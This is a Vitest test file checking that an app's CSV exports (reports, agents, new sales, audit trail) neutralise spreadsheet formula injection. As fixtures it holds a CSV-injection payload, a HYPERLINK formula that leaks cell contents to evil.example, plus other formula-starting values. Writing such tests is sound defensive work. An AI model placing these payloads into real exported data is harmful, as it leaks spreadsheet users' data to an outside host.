import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { agentsCsv } from '../features/agents/agentFigures';
import { trailCsv } from '../features/audit/auditExport';
import { salesCsv } from '../features/new-sales/salesFigures';
import { reportCsv } from '../features/reports/exportCsv';

const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

/** The cells of a CSV text, as a spreadsheet would read them (without the CSV quoting). */
const cells = (csv: string) => Papa.parse<string[]>(csv.trim()).data;

/** Issue #27 §4: no export hands a spreadsheet a formula; amounts that are plain numbers stay numbers. */
describe('CSV exports neutralise formulas (csvSafeCell)', () => {
  it('the report export', () => {
    const csv = reportCsv({
      columns: [{ label: 'Name' }, { label: 'Amount' }, { label: 'Note' }] as never,
      rows: [{ cells: [EVIL, '-50.00', '@SUM(A1)'] }, { cells: ['+27821234567', -12.5, null] }] as never,
    });
    const [, first, second] = cells(csv);
    expect(first).toEqual([`'${EVIL}`, '-50.00', `'@SUM(A1)`]);
    expect(second).toEqual([`'+27821234567`, '-12.5', '']);
  });

  it('the agents export', () => {
    const agent = {
      agentId: 'AG-1',
      firstName: EVIL,
      lastName: '-1+1',
      email: 'a@b.co',
      phone: '0821234567',
      idNumber: null,
      region: '\t=1',
      supervisorName: null,
      commissionRate: 5,
      salesTarget: 1000,
      clientsOnboarded: 0,
      policiesSold: 0,
      salesThisMonth: 0,
      totalCommissions: 0,
      status: 'active',
      createdAt: '2025-06-01T00:00:00Z',
    };
    const [, row] = cells(agentsCsv([agent as never]));
    expect(row![1]).toBe(`'${EVIL}`);
    expect(row![2]).toBe(`'-1+1`);
    expect(row![6]).toBe(`'\t=1`);
  });

  it('the new sales export', () => {
    const sale = {
      policyNumber: 'POL-1',
      clientName: EVIL,
      phone: '+27821234567',
      policyTypeName: 'Family',
      coverageAmount: '30000.00',
      monthlyPremium: '-50.00',
      agentName: '@agent',
      status: 'active',
      createdAt: '2025-06-01T00:00:00Z',
    };
    const [, row] = cells(salesCsv([sale as never]));
    expect(row!.slice(0, 7)).toEqual(['POL-1', `'${EVIL}`, `'+27821234567`, 'Family', '30000.00', '-50.00', `'@agent`]);
  });

  it('the audit trail export', () => {
    const entry = {
      position: 7,
      occurredAt: '2025-06-01T00:00:00.000Z',
      eventType: 'MemberRegistered',
      title: 'Member registered',
      actor: { name: EVIL, role: null },
      note: '-cmd',
      changes: [],
    };
    const [, row] = cells(trailCsv([entry as never]));
    expect(row![4]).toBe(`'${EVIL}`);
    expect(row![6]).toBe(`'-cmd`);
    expect(row![0]).toBe('7');
  });
});
